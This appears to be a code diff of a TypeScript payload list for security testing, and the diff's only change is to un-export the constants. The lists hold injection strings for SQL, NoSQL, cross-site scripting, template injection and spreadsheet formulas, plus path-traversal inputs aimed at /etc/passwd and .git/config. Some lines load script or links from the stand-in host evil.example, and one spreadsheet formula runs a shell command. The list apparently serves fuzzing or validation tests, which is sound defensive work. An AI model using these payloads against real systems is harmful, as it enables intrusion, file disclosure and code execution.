@@ -17,13 +17,13 @@ const SQL_WRITTEN = [
   'ʼ or 1=1 --',
   '1e0 or true',
 ];
-export const SQL: readonly string[] = [
+const SQL: readonly string[] = [
   ...SQL_HEADS.flatMap((head) => SQL_MIDDLES.map((middle, at) => `${head}${middle}${SQL_TAILS[at % SQL_TAILS.length]}`)),
   ...SQL_TAILS.flatMap((tail) => SQL_HEADS.slice(0, 5).map((head) => `${head} or ''='${tail}`)),
   ...SQL_WRITTEN,
 ];
 
-export const NO_SQL: readonly string[] = ['$gt', '$ne', '$regex', '$where', '$in', '$exists', '$or', '$expr'].flatMap((operator) => [
+const NO_SQL: readonly string[] = ['$gt', '$ne', '$regex', '$where', '$in', '$exists', '$or', '$expr'].flatMap((operator) => [
   `{"${operator}":""}`,
   `{"${operator}":1}`,
   `[${operator}]=`,
@@ -32,7 +32,7 @@ export const NO_SQL: readonly string[] = ['$gt', '$ne', '$regex', '$where', '$in
 
 const TAGS = ['img src=x', 'svg', 'body', 'iframe src=x', 'video src=x', 'input autofocus', 'details open', 'marquee'];
 const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart'];
-export const XSS: readonly string[] = [
+const XSS: readonly string[] = [
   ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1)>`)),
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -56,7 +56,7 @@ export const XSS: readonly string[] = [
   '<!--<img src="--><img src=x onerror=alert(1)//">',
 ];
 
-export const OTHER_CODE: readonly string[] = [
+const OTHER_CODE: readonly string[] = [
   '{{7*7}}',
   '${7*7}',
   '#{7*7}',
@@ -93,7 +93,7 @@ export const OTHER_CODE: readonly string[] = [
   '-0',
 ];
 
-export const PATHS: readonly string[] = [
+const PATHS: readonly string[] = [
   '../',
   '../../../../etc/passwd',
   '..\\..\\windows\\win.ini',
@@ -110,7 +110,7 @@ export const PATHS: readonly string[] = [
   '.git/config',
 ];
 
-export const SPREADSHEET: readonly string[] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
+const SPREADSHEET: readonly string[] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
   `${sign}cmd|' /C calc'!A0`,
   `${sign}1+1`,
   `${sign}HYPERLINK("https://evil.example")`,
